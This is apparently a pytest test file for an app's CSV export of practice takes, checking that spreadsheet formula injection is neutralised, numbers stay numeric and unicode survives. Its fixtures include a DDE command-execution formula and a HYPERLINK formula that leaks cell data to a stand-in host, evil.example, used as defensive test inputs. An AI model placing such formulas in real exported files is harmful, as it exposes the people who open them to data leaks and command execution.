"""Takes as CSV: formula injection is neutralised, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from app.domain.attempt import Attempt, Outcome
from app.domain.script import Script, ScriptKind
from app.domain.spreadsheet import HEADER, csv_rows, csv_text, neutralise
from app.domain.verdicts import judge


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_a_text_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(prefix: str) -> None:
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("cell", ["Good take", "", " =not first", "'quoted", "3 tries", "مرحبا"])
def test_other_text_is_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


@pytest.mark.parametrize("number", [-3.2, -1, 0, 28.5])
def test_numbers_stay_numbers(number: float) -> None:
    assert neutralise(number) == number


def _take(note: str, duration_s: float = 27.0) -> Attempt:
    return Attempt(script_id=1, revision_id=7, started_at="2025-03-01T09:00:05.250+00:00",
                   duration_s=duration_s, target_s=30.0, words=70, reached_end=True,
                   outcome=Outcome.NAILED, note=note, id=3)  # fmt: skip


def test_rows_neutralise_a_hyperlink_note_and_a_script_name() -> None:
    script = Script("=cmd|' /C calc'!A0", ScriptKind.VOICEMAIL, 30.0, "", id=1)
    note = '=HYPERLINK("http://evil.example/?leak="&A1, "click me")'
    rows = csv_rows([_take(note, 26.8)], [script], {7: 2})
    assert rows[0] == list(HEADER)
    row = dict(zip(HEADER, rows[1], strict=True))
    assert row["Script"] == "'=cmd|' /C calc'!A0"
    assert row["Note"] == "'" + note
    assert row["Started (UTC)"] == "2025-03-01 09:00:05"
    assert row["Over target (s)"] == -3.2
    assert row["Version"] == 2
    assert (row["Verdict"], row["Outcome"], row["Read to the end"]) == ("under", "nailed", "yes")


def test_the_csv_text_keeps_negative_numbers_unquoted_and_text_quoted_when_needed() -> None:
    script = Script("Jordan", ScriptKind.VOICEMAIL, 30.0, "", id=1)
    text = csv_text(csv_rows([_take("-3.2 s faster, \"great\"\nnext: slower", 26.8)],
                             [script], {7: 1}))  # fmt: skip
    line = text.split("\r\n")[1]
    assert ",-3.2," in line  # a number: a spreadsheet sums it
    assert '"\'-3.2 s faster, ""great""\nnext: slower"' in text
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[1][-1] == '\'-3.2 s faster, "great"\nnext: slower'
    assert text.endswith("\r\n")


def test_odd_unicode_survives_the_csv_exactly() -> None:
    odd = "مرحبا 👋🏽 Cafe\u0301 \u202eevil\u202c \U0001f9d1\u200d\U0001f4bb"
    script = Script(odd, ScriptKind.VOICEMAIL, 30.0, "", id=1)
    text = csv_text(csv_rows([_take(odd)], [script], {7: 1}))
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[1][0] == odd and parsed[1][-1] == odd


def test_a_nul_inside_a_cell_is_dropped_from_the_csv() -> None:
    assert csv_text([[neutralise("\0=1"), "a\0b"]]) == "'=1,ab\r\n"


def test_the_verdict_column_says_what_the_result_line_and_the_cards_say() -> None:
    script = Script("Voicemail", ScriptKind.VOICEMAIL, 30.0, "", id=1)
    takes = [
        replace(_take("", 29.0), outcome=Outcome.ABANDONED),  # not finished: no verdict on time
        replace(_take("", 21.0), words=79),  # 226 wpm, 9 s under: too fast to follow
        replace(_take("", 27.9), reached_end=False),  # stopped early: judged by its length
        _take("", 31.5),
    ]
    rows = csv_rows(takes, [script], {7: 1})
    verdicts = [row[HEADER.index("Verdict")] for row in rows[1:]]
    assert verdicts == ["abandoned", "too fast", "under", "on"]
    assert [judge(take).value for take in takes] == verdicts
    slower_reader = csv_rows(takes, [script], {7: 1}, readable_wpm=240)
    assert slower_reader[2][HEADER.index("Verdict")] == "under"
